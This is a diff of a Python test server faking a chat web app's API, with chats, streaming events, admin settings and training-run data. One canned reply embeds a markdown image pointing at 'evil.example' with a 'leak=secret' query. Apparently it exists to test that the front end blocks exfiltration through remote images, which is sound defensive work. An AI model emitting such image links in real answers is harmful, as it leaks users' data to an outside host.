@@ -27,9 +27,7 @@ POLICY = (
     "connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
 )
 CODE = 'Here it is:\n\n```python\ndef hello(name: str) -> str:\n    """Greets."""\n    return f"Hello, {name}!"\n```\n\nThat is all.'
-MATH = (
-    "The roots are $x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$, and\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nIt costs $5 and $6."
-)
+MATH = "The roots are $x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$, and\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nIt costs $5 and $6."
 TABLE = "| fruit | price |\n|---|---:|\n| apple | 1.20 |\n| pear | 1.50 |\n\n- [x] done\n- [ ] to do\n\nA note.[^1]\n\n[^1]: Of the market."
 THOUGHT = "The person greets me, so I greet back."
 
@@ -105,9 +103,14 @@ class House:
         self.requests: list[str] = []
         self.temporary: list[dict[str, Any]] = []
         self.refuse_turns = 0
+        self.cuts = 0
         self.climbs: list[dict[str, Any]] = []
         self.runs: dict[str, dict[str, Any]] = {}
         self.admin = Admin(self)
+
+    def cut_streams(self) -> None:
+        """Break every event stream once, as a lost network does."""
+        self.cuts += 1
 
     # -- chats ---------------------------------------------------------------------------------------------
 
@@ -133,7 +136,9 @@ class House:
         self.chats[chat["id"]] = chat
         return chat
 
-    def new_message(self, chat_id: str, role: str, content: str, parent: str | None, **given: Any) -> dict[str, Any]:
+    def new_message(
+        self, chat_id: str, role: str, content: str, parent: str | None, **given: Any
+    ) -> dict[str, Any]:
         message = {
             "id": self.ids.new("msg"), "chat_id": chat_id, "parent_id": parent, "role": role, "content": content,
             "reasoning": None, "tool_calls": None, "model": None, "state": "complete", "finish_reason": None, "usage": None,
@@ -193,7 +198,12 @@ class House:
                 return
             if "fail" in question and i == 2:
                 message["state"] = "failed"
-                error = {"message": "The model stopped.", "type": "server_error", "param": None, "code": "model_failed"}
+                error = {
+                    "message": "The model stopped.",
+                    "type": "server_error",
+                    "param": None,
+                    "code": "model_failed",
+                }
                 generation.push({"type": "error", "error": error, "message": self.shown(message)})
                 return
             message["content"] += piece
@@ -234,7 +244,7 @@ class House:
         return self.shown(generation.message)
 
     async def events(self, generation: Generation, after: int | None) -> AsyncIterator[str]:
-        at = 0
+        at, cuts = 0, self.cuts
         if after is not None:
             at = after
         elif generation.events:
@@ -243,11 +253,13 @@ class House:
                 text = "".join(e["text"] for e in generation.events if e["type"] == kind)
                 if text:
                     yield frame(at, {"type": kind, "text": text})
-            if generation.events[-1]["type"] in ("done", "error"):
+            if generation.events[-1]["type"] in ("done", "error", "held"):
                 yield frame(at, generation.events[-1])
         while True:
             changed = generation.changed
             while at < len(generation.events):
+                if self.cuts != cuts:
+                    raise ConnectionResetError
                 at += 1
                 yield frame(at, generation.events[at - 1])
             if generation.over:
@@ -266,7 +278,12 @@ def cut(text: str) -> list[str]:
     """Pieces as a model's tokens are: a word with its space; one Chinese character."""
     pieces: list[str] = []
     for letter in text:
-        if pieces and not pieces[-1].endswith((" ", "\n")) and letter < "\u3000" and pieces[-1][-1] < "\u3000":
+        if (
+            pieces
+            and not pieces[-1].endswith((" ", "\n"))
+            and letter < "\u3000"
+            and pieces[-1][-1] < "\u3000"
+        ):
             pieces[-1] += letter
         else:
             pieces.append(letter)
@@ -280,7 +297,10 @@ def answer_to(question: str) -> tuple[str, str]:
         if word in question:
             return text, ""
     if "remote image" in question:
-        return "Look: ![a cat](https://evil.example/cat.png?leak=secret) and [here](https://other.example/page).", ""
+        return (
+            "Look: ![a cat](https://evil.example/cat.png?leak=secret) and [here](https://other.example/page).",
+            "",
+        )
     if "think" in question:
         return "Hello to you too.", THOUGHT
     if "long" in question:
@@ -316,41 +336,85 @@ class Admin:
         self.house = house
         self.people = {
             "person_1": PERSON | {"budget": None},
-            "person_2": PERSON | {"id": "person_2", "email": "ben@example.org", "name": "Ben", "role": "member", "budget": None},
+            "person_2": PERSON
+            | {"id": "person_2", "email": "ben@example.org", "name": "Ben", "role": "member", "budget": None},
         }
         self.invitations: dict[str, dict[str, Any]] = {}
-        self.settings: dict[str, Any] = {"registration": "open", "retention_days": None, "limits": {"max_tokens": 512}, "budgets": {}}
+        self.settings: dict[str, Any] = {
+            "registration": "open",
+            "retention_days": None,
+            "limits": {"max_tokens": 512},
+            "budgets": {},
+        }
         self.rules: dict[str, dict[str, Any]] = {}
         self.held: dict[str, dict[str, Any]] = {}
-        self.audit = [{"id": 1, "at": stamp(-3600), "who": "Ada", "action": "settings.change", "what": "registration", "detail": {}}]
+        self.audit = [
+            {
+                "id": 1,
+                "at": stamp(-3600),
+                "who": "Ada",
+                "action": "settings.change",
+                "what": "registration",
+                "detail": {},
+            }
+        ]
 
 
-def create_fake(house: House) -> FastAPI:
+def create_fake(house: House | Door) -> FastAPI:
     app = FastAPI(openapi_url=None)
     app.state.house = house
 
     @app.exception_handler(Refused)
     async def refused(_: Request, why: Refused) -> JSONResponse:
-        body = {"error": {"message": why.message, "type": "invalid_request_error", "param": None, "code": why.code}}
+        body = {
+            "error": {
+                "message": why.message,
+                "type": "invalid_request_error",
+                "param": None,
+                "code": why.code,
+            }
+        }
         return JSONResponse(body, why.status)
 
     @app.middleware("http")
     async def checked(request: Request, call: Any) -> Response:
         house.requests.append(f"{request.method} {request.url.path}")
-        changing = request.method in ("POST", "PUT", "PATCH", "DELETE") and request.url.path.startswith("/api/")
-        if changing and not request.headers.get("content-type", "").startswith(("application/json", "application/zip")):
+        changing = request.method in ("POST", "PUT", "PATCH", "DELETE") and request.url.path.startswith(
+            "/api/"
+        )
+        if changing and not request.headers.get("content-type", "").startswith(
+            ("application/json", "application/zip")
+        ):
             return JSONResponse({"error": {"message": "JSON is expected.", "code": "media_type"}}, 415)
         doors = ("/api/login", "/api/register", "/api/setup", "/api/me", "/api/shared/")
-        if request.url.path.startswith("/api/") and not house.logged_in and not request.url.path.startswith(doors):
+        if (
+            request.url.path.startswith("/api/")
+            and not house.logged_in
+            and not request.url.path.startswith(doors)
+        ):
             return JSONResponse({"error": {"message": "Log in first.", "code": "unauthorized"}}, 401)
-        if changing and house.mode == "accounts" and house.logged_in and request.headers.get("x-csrf-token") != "token-1":
+        if (
+            changing
+            and house.mode == "accounts"
+            and house.logged_in
+            and request.headers.get("x-csrf-token") != "token-1"
+        ):
             return JSONResponse({"error": {"message": "The token is wrong.", "code": "csrf"}}, 403)
         response: Response = await call(request)
         response.headers["content-security-policy"] = POLICY
         response.headers["x-content-type-options"] = "nosniff"
         return response
 
-    for add in (_me_routes, _chat_routes, _turn_routes, _judging_routes, _other_routes, _run_routes, _admin_routes, _page_routes):
+    for add in (
+        _me_routes,
+        _chat_routes,
+        _turn_routes,
+        _judging_routes,
+        _other_routes,
+        _run_routes,
+        _admin_routes,
+        _page_routes,
+    ):
         add(app, house)
     return app
 
@@ -361,7 +425,7 @@ def page_of(items: list[dict[str, Any]], cursor: str | None, limit: int) -> dict
     return {"data": items[start : start + limit], "next": str(start + limit) if more else None}
 
 
-def _me_routes(app: FastAPI, house: House) -> None:
+def _me_routes(app: FastAPI, house: Any) -> None:
     @app.get("/api/me")
     async def me() -> dict[str, Any]:
         return {
@@ -418,7 +482,13 @@ def _me_routes(app: FastAPI, house: House) -> None:
 
     @app.get("/api/me/sessions")
     async def sessions() -> dict[str, Any]:
-        one = {"id": "session_1", "created_at": stamp(), "last_seen_at": stamp(), "user_agent": "Chromium", "current": True}
+        one = {
+            "id": "session_1",
+            "created_at": stamp(),
+            "last_seen_at": stamp(),
+            "user_agent": "Chromium",
+            "current": True,
+        }
         return {"data": [one], "next": None}
 
     @app.get("/api/me/keys")
@@ -439,7 +509,7 @@ def _me_routes(app: FastAPI, house: House) -> None:
         return Response(status_code=204)
 
 
-def _chat_routes(app: FastAPI, house: House) -> None:
+def _chat_routes(app: FastAPI, house: Any) -> None:
     @app.get("/api/models")
     async def models() -> dict[str, Any]:
         return {
@@ -449,7 +519,11 @@ def _chat_routes(app: FastAPI, house: House) -> None:
 
     @app.get("/api/chats")
     async def chats(
-        folder: str | None = None, archived: bool = False, trash: bool = False, cursor: str | None = None, limit: int = 50
+        folder: str | None = None,
+        archived: bool = False,
+        trash: bool = False,
+        cursor: str | None = None,
+        limit: int = 50,
     ) -> dict[str, Any]:
         found = [
             chat for chat in house.chats.values()
@@ -538,9 +612,11 @@ def _chat_routes(app: FastAPI, house: House) -> None:
         return {"data": hits[::-1][:limit]}
 
 
-def _turn_routes(app: FastAPI, house: House) -> None:
+def _turn_routes(app: FastAPI, house: Any) -> None:
     def answer_under(chat_id: str, parent: str, model: str | None) -> dict[str, Any]:
-        return house.new_message(chat_id, "assistant", "", parent, model=model or house.chat(chat_id)["model"])
+        return house.new_message(
+            chat_id, "assistant", "", parent, model=model or house.chat(chat_id)["model"]
+        )
 
     def begun(chat_id: str, question: dict[str, Any], model: str | None, **more: Any) -> JSONResponse:
         answer = answer_under(chat_id, question["id"], model)
@@ -566,7 +642,9 @@ def _turn_routes(app: FastAPI, house: House) -> None:
     @app.post("/api/chats/{chat_id}/messages/{mid}/edit")
     async def edit(chat_id: str, mid: str, request: Request) -> JSONResponse:
         body, old = await request.json(), house.message(chat_id, mid)
-        new = house.new_message(chat_id, old["role"], body["text"], old["parent_id"], edited=True, model=old["model"])
+        new = house.new_message(
+            chat_id, old["role"], body["text"], old["parent_id"], edited=True, model=old["model"]
+        )
         if old["role"] == "user" and body["run"]:
             return begun(chat_id, new, None, user=house.shown(new))
         return JSONResponse({"message": house.shown(new)})
@@ -584,13 +662,18 @@ def _turn_routes(app: FastAPI, house: House) -> None:
     async def pair(chat_id: str, request: Request) -> JSONResponse:
         body = await request.json()
         user = house.new_message(chat_id, "user", body["text"], body.get("parent_id"))
-        answers = [answer_under(chat_id, user["id"], name) for name in body.get("models") or ["smollm2", "town/ppo-2"]]
+        answers = [
+            answer_under(chat_id, user["id"], name)
+            for name in body.get("models") or ["smollm2", "town/ppo-2"]
+        ]
         for answer in answers:
             answer["pair_id"] = f"pair_{answers[0]['id']}"
         generations = [house.begin(chat_id, user["content"], answer) for answer in answers]
         house.hidden |= {answer["id"] for answer in answers}
         shown = [house.shown(answer) for answer in answers]
-        return JSONResponse({"user": house.shown(user), "answers": shown, "generation_ids": [g.id for g in generations]}, 202)
+        return JSONResponse(
+            {"user": house.shown(user), "answers": shown, "generation_ids": [g.id for g in generations]}, 202
+        )
 
     @app.get("/api/chats/{chat_id}/generations/{gid}/events")
     async def events(chat_id: str, gid: str, request: Request, after: int | None = None) -> StreamingResponse:
@@ -625,7 +708,7 @@ def _turn_routes(app: FastAPI, house: House) -> None:
         return StreamingResponse(written(), media_type="text/event-stream")
 
 
-def _judging_routes(app: FastAPI, house: House) -> None:
+def _judging_routes(app: FastAPI, house: Any) -> None:
     @app.put("/api/chats/{chat_id}/messages/{mid}/judgement")
     async def judge(chat_id: str, mid: str, request: Request) -> dict[str, Any]:
         message, body = house.message(chat_id, mid), await request.json()
@@ -660,12 +743,19 @@ def _judging_routes(app: FastAPI, house: House) -> None:
         for i, piece in enumerate(cut(message["content"])[:120]):
             logprob = -0.05 - (i % 5) * 0.8
             tops = [(piece, logprob), (" or", logprob - 1), (" perhaps", logprob - 2)]
-            tokens.append({"text": piece, "logprob": logprob, "top": [{"text": t, "logprob": p} for t, p in tops]})
+            tokens.append(
+                {"text": piece, "logprob": logprob, "top": [{"text": t, "logprob": p} for t, p in tops]}
+            )
         prompt = "".join(f"<|im_start|>{m['role']}\n{m['content']}<|im_end|>\n" for m in house.path(mid)[:-1])
-        return {"prompt": prompt, "tokens": tokens, "curl": "curl http://127.0.0.1:8000/v1/chat/completions -d '{}'", "seed": 7}
+        return {
+            "prompt": prompt,
+            "tokens": tokens,
+            "curl": "curl http://127.0.0.1:8000/v1/chat/completions -d '{}'",
+            "seed": 7,
+        }
 
 
-def _other_routes(app: FastAPI, house: House) -> None:
+def _other_routes(app: FastAPI, house: Any) -> None:
     @app.get("/api/folders")
     async def folders() -> dict[str, Any]:
         return {"data": list(house.folders.values()), "next": None}
@@ -673,7 +763,12 @@ def _other_routes(app: FastAPI, house: House) -> None:
     @app.post("/api/folders")
     async def new_folder(request: Request) -> dict[str, Any]:
         body = await request.json()
-        folder = {"id": house.ids.new("folder"), "parent_id": body.get("parent_id"), "name": body["name"], "position": len(house.folders)}
+        folder = {
+            "id": house.ids.new("folder"),
+            "parent_id": body.get("parent_id"),
+            "name": body["name"],
+            "position": len(house.folders),
+        }
         house.folders[folder["id"]] = folder
         return folder
 
@@ -724,7 +819,12 @@ def _other_routes(app: FastAPI, house: House) -> None:
 
     @app.get("/api/shares")
     async def shares() -> dict[str, Any]:
-        return {"data": [{k: v for k, v in s.items() if k != "messages"} | {"url": None} for s in house.shares.values()], "next": None}
+        return {
+            "data": [
+                {k: v for k, v in s.items() if k != "messages"} | {"url": None} for s in house.shares.values()
+            ],
+            "next": None,
+        }
 
     @app.delete("/api/shares/{sid}")
     async def revoke(sid: str) -> Response:
@@ -753,9 +853,15 @@ def _other_routes(app: FastAPI, house: House) -> None:
     async def export(chat_id: str, format: str) -> Response:
         messages = house.path(house.chat(chat_id)["active_leaf_id"])
         if format == "json":
-            kept = [m | {"parent": m["parent_id"], "ai_generated": m["role"] == "assistant"} for m in messages]
-            return JSONResponse({"kind": "ziggurat.chat", "title": house.chat(chat_id)["title"], "messages": kept})
-        return Response("\n\n".join(f"{m['role']}: {m['content']}" for m in messages), media_type="text/plain")
+            kept = [
+                m | {"parent": m["parent_id"], "ai_generated": m["role"] == "assistant"} for m in messages
+            ]
+            return JSONResponse(
+                {"kind": "ziggurat.chat", "title": house.chat(chat_id)["title"], "messages": kept}
+            )
+        return Response(
+            "\n\n".join(f"{m['role']}: {m['content']}" for m in messages), media_type="text/plain"
+        )
 
     @app.get("/api/export")
     @app.get("/api/me/export")
@@ -772,13 +878,15 @@ def _other_routes(app: FastAPI, house: House) -> None:
             chat = house.new_chat(title=body["title"])
             parent = None
             for m in body["messages"]:
-                parent = house.new_message(chat["id"], m["role"], m["content"], parent, model=m.get("model"))["id"]
+                parent = house.new_message(chat["id"], m["role"], m["content"], parent, model=m.get("model"))[
+                    "id"
+                ]
         except (ValueError, KeyError, TypeError) as error:
             raise Refused(400, "bad_import", "The file holds no chats that are known here.") from error
         return {"chats": 1, "messages": len(body["messages"]), "skipped": []}
 
 
-def _run_routes(app: FastAPI, house: House) -> None:
+def _run_routes(app: FastAPI, house: Any) -> None:
     @app.get("/api/runs")
     async def runs() -> dict[str, Any]:
         return {"climbs": house.climbs}
@@ -800,31 +908,29 @@ def _run_routes(app: FastAPI, house: House) -> None:
         return found
 
 
-def _admin_routes(app: FastAPI, house: House) -> None:
-    admin = house.admin
-
+def _admin_routes(app: FastAPI, house: Any) -> None:
     @app.get("/api/admin/people")
     async def people() -> dict[str, Any]:
-        return {"data": list(admin.people.values()), "next": None}
+        return {"data": list(house.admin.people.values()), "next": None}
 
     @app.patch("/api/admin/people/{pid}")
     async def change_person(pid: str, request: Request) -> dict[str, Any]:
-        admin.people[pid] |= await request.json()
-        return admin.people[pid]
+        house.admin.people[pid] |= await request.json()
+        return house.admin.people[pid]
 
     @app.get("/api/admin/invitations")
     async def invitations() -> dict[str, Any]:
-        return {"data": list(admin.invitations.values()), "next": None}
+        return {"data": list(house.admin.invitations.values()), "next": None}
 
     @app.post("/api/admin/invitations")
     async def invite(request: Request) -> dict[str, Any]:
         made = await request.json() | {"id": house.ids.new("invitation"), "created_at": stamp()}
-        admin.invitations[made["id"]] = made
+        house.admin.invitations[made["id"]] = made
         return made | {"secret": "invite-once"}
 
     @app.delete("/api/admin/invitations/{iid}")
     async def drop_invitation(iid: str) -> Response:
-        admin.invitations.pop(iid, None)
+        house.admin.invitations.pop(iid, None)
         return Response(status_code=204)
 
     @app.get("/api/admin/keys")
@@ -833,7 +939,10 @@ def _admin_routes(app: FastAPI, house: House) -> None:
 
     @app.get("/api/admin/models")
     async def models() -> dict[str, Any]:
-        return {"data": [m | {"state": "loaded", "memory_bytes": 270_000_000, "requests": 12} for m in MODELS], "next": None}
+        return {
+            "data": [m | {"state": "loaded", "memory_bytes": 270_000_000, "requests": 12} for m in MODELS],
+            "next": None,
+        }
 
     @app.get("/api/admin/generations")
     async def generations() -> dict[str, Any]:
@@ -852,53 +961,55 @@ def _admin_routes(app: FastAPI, house: House) -> None:
 
     @app.get("/api/admin/settings")
     async def settings() -> dict[str, Any]:
-        return admin.settings
+        return house.admin.settings
 
     @app.put("/api/admin/settings")
     async def change_settings(request: Request) -> dict[str, Any]:
-        admin.settings |= await request.json()
-        return admin.settings
+        house.admin.settings |= await request.json()
+        return house.admin.settings
 
     @app.get("/api/admin/rules")
     async def rules() -> dict[str, Any]:
-        return {"data": list(admin.rules.values()), "next": None}
+        return {"data": list(house.admin.rules.values()), "next": None}
 
     @app.post("/api/admin/rules")
     async def new_rule(request: Request) -> dict[str, Any]:
         rule = await request.json() | {"id": house.ids.new("rule"), "hits": 0}
-        admin.rules[rule["id"]] = rule
+        house.admin.rules[rule["id"]] = rule
         return rule
 
     @app.patch("/api/admin/rules/{rid}")
     async def change_rule(rid: str, request: Request) -> dict[str, Any]:
-        admin.rules[rid] |= await request.json()
-        return admin.rules[rid]
+        house.admin.rules[rid] |= await request.json()
+        return house.admin.rules[rid]
 
     @app.delete("/api/admin/rules/{rid}")
     async def drop_rule(rid: str) -> Response:
-        del admin.rules[rid]
+        del house.admin.rules[rid]
         return Response(status_code=204)
 
     @app.post("/api/admin/rules/try")
     async def try_rule(request: Request) -> dict[str, Any]:
         text = (await request.json())["text"]
-        met = [r for r in admin.rules.values() if r.get("pattern") and r["pattern"].lower() in text.lower()]
+        met = [
+            r for r in house.admin.rules.values() if r.get("pattern") and r["pattern"].lower() in text.lower()
+        ]
         return {"data": [{"rule": rule} for rule in met], "next": None}
 
     @app.get("/api/admin/held")
     async def held() -> dict[str, Any]:
-        return {"data": list(admin.held.values()), "next": None}
+        return {"data": list(house.admin.held.values()), "next": None}
 
     @app.post("/api/admin/held/{hid}")
     async def decide(hid: str, request: Request) -> dict[str, Any]:
-        return admin.held.pop(hid) | await request.json()
+        return house.admin.held.pop(hid) | await request.json()
 
     @app.get("/api/admin/audit")
     async def audit() -> dict[str, Any]:
-        return {"data": admin.audit, "next": None, "broken": None}
+        return {"data": house.admin.audit, "next": None, "broken": None}
 
 
-def _page_routes(app: FastAPI, house: House) -> None:
+def _page_routes(app: FastAPI, house: Any) -> None:
     @app.get("/assets/{name:path}")
     async def asset(name: str) -> Response:
         path = (BUILT / "assets" / name).resolve()
@@ -911,6 +1022,22 @@ def _page_routes(app: FastAPI, house: House) -> None:
         if rest.startswith("api/"):
             raise missing()
         return FileResponse(BUILT / "index.html", headers={"cache-control": "no-cache"})
+
+
+class Door:
+    """Stands for the house that is open now, so that one running server can serve one house after the other."""
+
+    def __init__(self, house: House) -> None:
+        object.__setattr__(self, "house", house)
+
+    def open(self, house: House) -> None:
+        object.__setattr__(self, "house", house)
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(object.__getattribute__(self, "house"), name)
+
+    def __setattr__(self, name: str, value: Any) -> None:
+        setattr(object.__getattribute__(self, "house"), name, value)
 
 
 def furnish(house: House) -> None:
@@ -942,10 +1069,27 @@ def climbing(house: House) -> None:
         return {"name": name, "state": state, "step": step, "steps": steps, "elapsed_s": step * 0.1, "left_s": left,
                 "run": run, "chat_model": talk}  # fmt: skip
 
-    stages = [stage("pretrain", "done", 600, 600, 0), stage("sft", "running", 140, 400, 26.0), stage("reward", "waiting", 0, 300, None), stage("ppo", "waiting", 0, 200, None)]
-    house.climbs = [{"name": "town", "world": "town", "state": "running", "stages": stages, "left_s": 244.0, "report": None}]
+    stages = [
+        stage("pretrain", "done", 600, 600, 0),
+        stage("sft", "running", 140, 400, 26.0),
+        stage("reward", "waiting", 0, 300, None),
+        stage("ppo", "waiting", 0, 200, None),
+    ]
+    house.climbs = [
+        {
+            "name": "town",
+            "world": "town",
+            "state": "running",
+            "stages": stages,
+            "left_s": 244.0,
+            "report": None,
+        }
+    ]
     for name, steps in (("pretrain", 600), ("sft", 140)):
-        loss = [[s, round(1.1 + 3.2 * 0.985**s + 0.08 * ((s * 7919) % 13 - 6) / 6, 4)] for s in range(0, steps + 1, 4)]
+        loss = [
+            [s, round(1.1 + 3.2 * 0.985**s + 0.08 * ((s * 7919) % 13 - 6) / 6, 4)]
+            for s in range(0, steps + 1, 4)
+        ]
         house.runs[f"town/{name}"] = {
             "stage": {"name": name}, "state": "done" if name == "pretrain" else "running",
             "series": {"loss": loss, "val_bits_per_byte": [[s, round(v * 0.6, 4)] for s, v in loss[::10]], "grad_norm": [[s, round(0.4 + 2 * 0.98**s, 4)] for s, _ in loss], "tokens_per_s": [[s, 21000 + 300 * (s % 7)] for s, _ in loss]},
